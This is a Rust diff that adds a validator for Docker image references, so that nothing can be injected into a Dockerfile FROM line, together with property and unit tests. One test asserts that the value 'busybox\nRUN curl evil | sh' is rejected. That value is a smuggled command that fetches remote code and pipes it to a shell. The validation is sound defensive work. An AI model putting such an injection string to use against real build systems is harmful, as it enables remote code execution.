@@ -14,6 +14,15 @@ use super::ids::{AppId, ProjectId};
 /// lowercase repository path, an optional tag and an optional sha256 digest.
 pub const IMAGE_REF_PATTERN: &str = r"^([A-Za-z0-9.-]+(:[0-9]+)?/)?[a-z0-9]+([._-]+[a-z0-9]+)*(/[a-z0-9]+([._-]+[a-z0-9]+)*)*(:[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?(@sha256:[a-f0-9]{64})?$";
 
+/// Whether `s` is an image reference by [`IMAGE_REF_PATTERN`], at most 255 bytes. The tools'
+/// schemas carry the rule; the engine checks it again where an image is written into a
+/// Dockerfile, so that no caller can get a newline or a second instruction into one.
+pub fn is_image_ref(s: &str) -> bool {
+    static RE: std::sync::LazyLock<regex::Regex> =
+        std::sync::LazyLock::new(|| regex::Regex::new(IMAGE_REF_PATTERN).expect("a valid pattern"));
+    s.len() <= 255 && RE.is_match(s)
+}
+
 /// The DNS-label rule shared by app and project names.
 pub const DNS_LABEL_PATTERN: &str = "^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$";
 
@@ -222,6 +231,28 @@ mod tests {
         for bad in ["rzgHoI_0KR0", "Nginx", "app:", "-app", "a//b", "app:-x", "app name"] {
             assert!(!re.is_match(bad), "{bad}");
         }
+    }
+
+    proptest::proptest! {
+        /// An image is written into a Dockerfile's `FROM` line (by `BaseImages`, which checks
+        /// it with this): no accepted image holds a character that could end the line or
+        /// start anything else in it.
+        #[test]
+        fn no_image_reference_can_break_out_of_a_from_line(
+            prefix in "[a-z0-9./:-]{0,20}",
+            bad in proptest::sample::select(vec!['\n', '\r', ' ', '\t', '\\', '$', '#', '"', '\'', '`', ';', '&', '|', '\u{0}', 'é']),
+            suffix in "[a-z0-9./:-]{0,20}",
+        ) {
+            let image = format!("{prefix}{bad}{suffix}");
+            proptest::prop_assert!(!is_image_ref(&image), "{image:?}");
+        }
+    }
+
+    #[test]
+    fn image_references_are_checked_outside_the_schema_too() {
+        assert!(is_image_ref("registry.local:5000/team/node:22-bookworm-slim"));
+        assert!(!is_image_ref(&format!("a{}", "b".repeat(255))));
+        assert!(!is_image_ref("busybox\nRUN curl evil | sh"));
     }
 
     #[test]
